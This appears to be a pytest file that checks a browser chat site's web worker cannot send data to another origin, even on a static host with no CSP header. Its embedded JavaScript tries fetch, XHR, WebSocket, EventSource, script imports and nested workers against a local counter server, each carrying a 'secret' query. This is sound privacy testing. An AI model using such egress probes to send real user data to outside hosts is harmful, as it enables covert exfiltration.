"""Privacy on any host: the page's worker is under the page's Content-Security-Policy even when the
server sends no CSP header at all (a plain static host), so nothing it runs can reach another origin.

The site is served by http.server's plain SimpleHTTPRequestHandler (no CSP header); a second server
on another port counts every request that reaches it. From inside the page's worker, each way a
worker can send data out is tried.
"""

import functools
import http.server
import threading
from contextlib import contextmanager

from web_helpers import browser, make_site, pseudo_random_bytes  # noqa: F401

# Run inside the worker. Each attempt reports whether it got through; the other origin also counts.
EGRESS = """async (other) => {
  const violations = [];
  self.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  const results = {};
  const attempt = async (name, run) => {
    try {
      await run();
      results[name] = "sent";
    } catch (error) {
      results[name] = "refused";
    }
  };
  const opened = (make) => new Promise((resolve, reject) => {
    const channel = make();
    channel.onopen = () => { channel.close(); resolve(); };
    channel.onerror = () => { channel.close(); reject(new Error("refused")); };
  });
  await attempt("fetch", () => fetch(`${other}/fetch?q=secret`, { mode: "no-cors" }));
  await attempt("xhr", () => new Promise((resolve, reject) => {
    const xhr = new XMLHttpRequest();
    xhr.open("GET", `${other}/xhr?q=secret`);
    xhr.onload = resolve;
    xhr.onerror = () => reject(new Error("refused"));
    xhr.send();
  }));
  await attempt("websocket", () => opened(() => new WebSocket(`${other.replace("http", "ws")}/ws?q=secret`)));
  await attempt("eventsource", () => opened(() => new EventSource(`${other}/events?q=secret`)));
  await attempt("importScripts", () => importScripts(`${other}/classic.js?q=secret`));
  await attempt("import", () => import(`${other}/module.js?q=secret`));
  await attempt("worker", () => new Promise((resolve, reject) => {
    const nested = new Worker(`${other}/nested.js?q=secret`);
    nested.onerror = () => reject(new Error("refused"));
    setTimeout(resolve, 300);
  }));
  // The worker's own origin stays reachable: the refusals above are the policy, not a dead network.
  await attempt("same-origin", () => fetch(new URL("model/manifest.json", self.location.href.replace(/^blob:/, ""))).then((r) => r.text()));
  await new Promise((done) => setTimeout(done, 300));
  return { results, violations: [...new Set(violations)].sort() };
}"""


class Counter(http.server.BaseHTTPRequestHandler):
    """Answers everything with an empty, CORS-open script, and records the path."""

    hits: list

    def do_GET(self):
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()

    def log_message(self, *args):
        pass


class PlainStatic(http.server.SimpleHTTPRequestHandler):
    extensions_map = {**http.server.SimpleHTTPRequestHandler.extensions_map, ".js": "text/javascript", ".wasm": "application/wasm"}

    def log_message(self, *args):
        pass


@contextmanager
def running(server):
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def test_worker_egress_is_refused_without_any_csp_header(browser, tmp_path):
    site = make_site(tmp_path / "www" / "chat", {"model/weights-00.bin": pseudo_random_bytes(1000, 1)})
    hits = []
    counter = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("C", (Counter,), {"hits": hits}))
    static = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(PlainStatic, directory=str(tmp_path / "www")))
    with running(counter) as other, running(static) as host:
        context = browser.new_context()
        page = context.new_page()
        headers = []
        page.on("response", lambda response: headers.append(response.all_headers()) if response.url.endswith("/chat/") else None)
        with page.expect_worker() as worker_info:
            page.goto(host + "/chat/")  # from a sub-path, as a static host may serve it
        page.wait_for_selector("body[data-state='no-backend']", timeout=30_000)
        assert "content-security-policy" not in headers[0]
        outcome = worker_info.value.evaluate(EGRESS, other)
        assert hits == []

        # The same attempts from a worker started the usual way, from the site's worker.js URL: with
        # no header it runs under no policy, and its fetch reaches the other origin. This is what
        # the blob: worker prevents, and shows the counter sees what gets through.
        with page.expect_worker(lambda worker: not worker.url.startswith("blob:")) as direct_info:
            page.evaluate("() => { new Worker(new URL('worker.js', location.href), { type: 'module' }); }")
        direct = direct_info.value.evaluate(EGRESS, other)
        context.close()
    assert outcome["results"] == {
        "fetch": "refused", "xhr": "refused", "websocket": "refused", "eventsource": "refused",
        "importScripts": "refused", "import": "refused", "worker": "refused", "same-origin": "sent",
    }, outcome
    assert {"connect-src", "script-src-elem"} <= set(outcome["violations"]), outcome
    assert direct["results"]["fetch"] == "sent" and direct["violations"] == [], direct
    assert any(hit.startswith("/fetch?q=secret") for hit in hits), hits
